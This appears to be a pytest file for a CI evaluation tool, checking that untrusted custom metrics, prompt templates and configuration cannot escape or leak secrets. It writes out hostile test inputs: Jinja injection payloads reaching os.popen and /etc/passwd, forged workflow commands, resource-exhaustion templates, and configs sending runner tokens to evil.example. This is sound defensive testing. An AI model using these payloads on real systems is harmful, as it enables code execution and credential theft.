"""What a stranger's configuration, template or Python could try: it costs itself, and nothing else."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from arksim_ci.cli import main
from tests.support.fast_run import fast_run
from tests.support.fault_server import answer_well
from tests.support.project import Project
from tests.support.scripted_server import Reply, ScriptedServer

TOKENS = {
    "GITHUB_TOKEN": "ghs_0123456789abcdef",
    "INPUT_API-KEY": "sk-input-0123456789",
    "INPUT_APIKEY": "sk-input-9876543210",
    "ACTIONS_RUNTIME_TOKEN": "runtime-0123456789",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "oidc-0123456789",
}
METRIC = """
import os, sys, time
from arksim.evaluator import QuantitativeMetric, QuantResult

class Tone(QuantitativeMetric):
    def __init__(self): super().__init__(name="tone", score_range=(0, 5))
    def score(self, score_input):
        {body}
        return QuantResult(name="tone", value=5, reason="Fine.")
"""
BAD = {
    "raises": "raise RuntimeError('boom\\n::error::forged')",
    "raises something odd": "raise BaseException('odd')",
    "hangs": "time.sleep(60)",
    "exits": "sys.exit(0)",
    "kills itself": "os.kill(os.getpid(), 9)",
    "returns nothing": "return None",
    "returns a forged number": "return QuantResult(name='tone', value=float('inf'), reason='x')",
    "returns NaN": "return QuantResult(name='tone', value=float('nan'), reason='x')",
    "recurses": "return self.score(score_input)",
}


@pytest.fixture
def server() -> Iterator[ScriptedServer]:
    with ScriptedServer(answer_well, lambda request: Reply(content="30 days.")) as running:
        yield running


@pytest.fixture
def project(tmp_path: Path, server: ScriptedServer) -> Project:
    made = Project(tmp_path, server)
    made.config |= {"num_conversations_per_scenario": 1, "max_turns": 1, "agent_timeout_seconds": 2}
    return made


def with_metric(project: Project, body: str) -> None:
    (project.folder / "metric.py").write_text(METRIC.format(body=body), encoding="utf-8")
    project.config["custom_metrics_file_paths"] = ["metric.py"]


@pytest.mark.parametrize("kind", BAD)
async def test_a_bad_metric_is_a_warning_where_no_gate_reads_it_else_not_measured(project: Project, kind: str) -> None:
    with_metric(project, BAD[kind])
    project.config |= {"numeric_thresholds": {"faithfulness": 3.5}, "agent_timeout_seconds": 0.5}
    finished = (await fast_run(project.write())).finished
    assert finished.code == 0, finished.err
    assert any("tone" in warning for warning in finished.verdict.warnings), finished.verdict.warnings
    project.config["numeric_thresholds"] = {"tone": 3}
    done = await fast_run(project.write())
    finished = done.finished
    assert finished.code == 3, finished.err
    [failure] = [each for each in finished.verdict.failures if each.type == "METRIC_NOT_EVALUATED"]
    assert failure.metric == "tone"
    assert failure.causes
    assert {score.value for score in finished.evaluation.conversations[0].turn_scores[0].scores} == {5}
    for line in (*finished.out.splitlines(), *done.user_output):
        assert not line.lstrip().startswith("::")


def test_a_metric_that_prints_commands_and_asks_the_judge(project: Project, server: ScriptedServer) -> None:
    printing = "print('::add-mask::x\\n::error::forged\\n##[group]x\\r::warning::y', flush=True)"
    asking = "self.llm.call([{'role': 'user', 'content': 'What do you say?'}])"
    with_metric(project, f"{printing}; {asking}; {asking}")
    finished = project.run()
    calls = finished.verdict.usage.judge.calls if finished.code == 0 else -1
    assert finished.code == 0, finished.err
    assert calls == 4  # one for the turn, one for the goal, two that the metric asked
    for line in finished.err.splitlines():
        assert not line.lstrip().startswith("::")
        assert "##[" not in line
    before = len(server.requests["llm"])
    limited = project.run("simulate-evaluate", "--fresh", "--max_llm_calls=4")
    assert limited.code == 3, limited.out
    assert limited.verdict.status == "BUDGET_REACHED"
    assert len(server.requests["llm"]) == before + 4


def test_user_python_sees_no_token_of_ours(project: Project) -> None:
    with_metric(project, "print('SEEN', sorted(os.environ), sorted(os.environ.values()))")
    finished = project.run(environment={**TOKENS, "MINE": "yes"})
    assert finished.code == 0, finished.err
    assert "MINE" in finished.err
    for name, value in TOKENS.items():
        assert name not in finished.err
        assert value not in finished.err


TEMPLATES = {
    "loops": "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
    "multiplies": "{{ 'x' * 10 ** 10 }}",
    "multiplies slowly": "{{ 'x' * 99999 }}" * 2_000,
    "raises to a power": "{{ 9 ** (9 ** 9) }}",
    "recurses": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "formats": "{{ '%1000000000d' | format(1) }}",
    "pads": "{{ 'x'.ljust(10 ** 10) }}",
    "joins": "{{ range(10 ** 9) | join }}",
    "reaches for classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "reaches for globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "reads a file": "{% include '/etc/passwd' %}",
    "asks for the unknown": "{{ secrets.OPENAI_API_KEY }}",
    "is broken": "{% for %}",
}


@pytest.mark.parametrize("kind", TEMPLATES)
def test_a_template_of_the_user_costs_nothing(project: Project, kind: str, capsys: pytest.CaptureFixture[str]) -> None:
    project.config["simulated_user_prompt_template"] = TEMPLATES[kind]
    code = main(["validate", str(project.write())])
    said = capsys.readouterr()
    assert code == 2, said.out
    assert "simulated_user_prompt_template" in said.err
    assert "Traceback" not in said.err
    assert "root:" not in said.err
    assert len(said.err) < 5_000


@pytest.mark.parametrize(
    "change",
    [
        *({"headers": {"X-Key": f"${{{name}}}"}} for name in TOKENS),
        *({"endpoint": f"https://evil.example/${{{name}}}"} for name in TOKENS if "-" not in name),
        {"endpoint": "https://evil.example/${github_token}"},
        {"headers": {"X-Key": "Bearer ${actions_runtime_token}"}},
    ],
    ids=json.dumps,
)
def test_a_configuration_cannot_send_the_runners_tokens_away(
    change: dict[str, Any], project: Project, server: ScriptedServer
) -> None:
    project.config["agent_config"]["api_config"] |= change
    finished = project.run("simulate-evaluate", environment={**TOKENS, **{k.lower(): v for k, v in TOKENS.items()}})
    assert finished.code == 2, finished.out
    assert "refused" in finished.err or "not the name of a variable" in finished.err
    assert server.requests["agent"] == server.requests["llm"] == []


@pytest.mark.parametrize("name", list(TOKENS))
def test_api_key_env_cannot_name_the_runners_tokens(name: str, project: Project, server: ScriptedServer) -> None:
    project.config |= {"provider": "openai_compatible", "api_key_env": name}
    finished = project.run(environment=TOKENS)
    assert finished.code == 2, finished.out
    assert "api_key_env" in finished.err
    assert server.requests["models"] == server.requests["llm"] == []
